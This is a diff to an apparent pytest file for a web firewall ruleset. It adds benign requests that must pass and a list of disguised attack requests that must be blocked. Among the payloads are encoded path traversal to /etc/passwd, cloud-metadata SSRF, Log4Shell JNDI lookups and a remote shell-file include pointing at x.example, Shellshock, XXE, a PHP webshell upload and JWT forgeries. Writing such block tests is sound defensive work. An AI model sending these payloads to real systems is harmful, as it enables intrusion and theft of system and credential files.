@@ -97,7 +97,76 @@ GOOD: list[dict[str, Any]] = [
     {"json": {"comment": "I'd say: drop it; update later"}},
     {"form": {"name": "D'Angelo", "message": "Tom's #1 -- the best!"}},
     {"form": {"password": "p'a\"s;s--w|or#d"}},
+    {"path": "/blog/how-to-use-.env-files"},
+    {"path": "/docs/v1..v2/"},
+    {"path": "/stories/shadow"},
+    {"path": "/image/https://cdn.example.com/a.png"},
+    {"query": {"q": "what is /etc/passwd used for"}},
+    {"query": {"q": "http://localhost:3000 not working"}},
+    {"query": {"q": "java.io.IOException"}},
+    {"query": {"redirect_uri": "http://localhost:3000/callback"}},
+    {"query": {"sessionId": "a1b2c3"}},
+    {"json": {"path": "C:\\Users\\ann\\Pictures\\lake.jpg"}},
+    {"json": {"deep_link": "app://open?item=1"}},
+    {"json": {"@context": "https://schema.org", "@type": "Article"}},
+    {"form": {"comment": "Open http://127.0.0.1:8080/ and see:\nERROR: no space\nin /var/log/app.log"}},
+    {"form": {"comment": "The hole was used with ${jndi:ldap://x.example/a} in all kinds of fields."}},
+    {"body_hex": "1b5d07080800ff1b5b", "content_type": "application/octet-stream", "method": "PUT"},
+    {"headers": {"X-Forwarded-For": "203.0.113.5, 10.1.2.3", "X-Client-Ip": "10.0.0.9", "Via": "1.1 varnish"}},
 ]
+
+
+# As attackers write them: each class in several places, and under several encodings. What they have in common is that nobody of
+# good will sends them.
+ATTACKS: list[dict[str, Any]] = [
+    {"query": {"file": "..%252f..%252f..%252fetc%252fpasswd"}},
+    {"query": {"file": "....\\/....\\/etc/passwd"}},
+    {"form": {"file": "..%c0%af..%c0%af..%c0%afetc/passwd"}},
+    {"json": {"file": "..\\..\\..\\windows\\win.ini"}},
+    {"cookies": {"page": "..%2f..%2f..%2fetc%2fshadow"}},
+    {"multipart": {"f": {"filename": "..\\..\\a.png", "content": "x"}}},
+    {"path": "/static/%2e%2e/%2e%2e/app.py"},
+    {"path": "/.git/config"},
+    {"path": "/%2e%67it/HEAD"},
+    {"path": "/wp-config.php.bak"},
+    {"path": "/admin;/users"},
+    {"headers": {"X-Original-URL": "/admin"}},
+    {"query": {"page": "php://filter/convert.base64-encode/resource=index"}},
+    {"query": {"page": "http://x.example/shell.txt?"}},
+    {"json": {"url": "http://169.254.169.254/latest/meta-data/"}},
+    {"json": {"url": "http://0xa9fea9fe/"}},
+    {"query": {"url": "http://127.1:8080/"}},
+    {"query": {"url": "http://[::ffff:7f00:1]/"}},
+    {"form": {"url": "http://x.example@10.0.0.1/"}},
+    {"json": {"url": "http://\u2460\u2461\u2466.0.0.1/"}},
+    {"cookies": {"feed": "http://127.0.0.1.nip.io/"}},
+    {"headers": {"X-Webhook": "gopher://127.0.0.1:6379/_INFO"}},
+    {"headers": {"User-Agent": "${${lower:j}ndi:ldap://x.example/a}"}},
+    {"headers": {"If-None-Match": "${${::-j}ndi:dns://x.example}"}},
+    {"json": {"name": "${jnd${upper:\u0131}:ldap://x.example/a}"}},
+    {"query": {"q": "%24%7Bjndi:ldap://x.example%7D"}},
+    {"form": {"class.module.classLoader.URLs[0]": "x"}},
+    {"headers": {"Content-Type": "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"}, "method": "POST"},
+    {"headers": {"Accept": "() { :;}; /bin/id"}},
+    {"path": "/index.php?-d+allow_url_include%3d1"},
+    {"body": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "content_type": "application/xml"},
+    {"json": {"xml": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x.example/a.dtd">%x;]><a/>'}},
+    {"multipart": {"f": {"filename": "a.php.jpg", "content": "x"}}},
+    {"multipart": {"f": {"filename": "a.gif", "content": "GIF89a<?=`$_GET[0]`;"}}},
+    {"headers": {"Authorization": "Bearer eyJhbGciOiJuT25FIn0.eyJzdWIiOiJhIn0."}},
+    {"cookies": {"t": "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii9kZXYvbnVsbCJ9.eyJzdWIiOiJhIn0.c2ln"}},
+    {"query": {"user": "guest\n2026-01-01 10:00:00 INFO admin logged in"}},
+    {"form": {"user": "\x1b]0;x\x07"}},
+    {"path": "/actuator/heapdump"},
+    {"headers": {"User-Agent": "sqlmap/1.8"}},
+    {"method": "TRACE"},
+]
+
+
+@pytest.mark.parametrize("description", ATTACKS, ids=lambda one: str(one)[:60])
+def test_attacks_in_disguise_are_blocked(bundle: Ruleset, description: dict[str, Any]) -> None:
+    verdict = send(bundle, build(description)).finish()
+    assert verdict.would_block, [(match.rule, match.target, match.value) for match in verdict.matches]
 
 
 @pytest.mark.parametrize("description", GOOD, ids=lambda one: str(one)[:60])
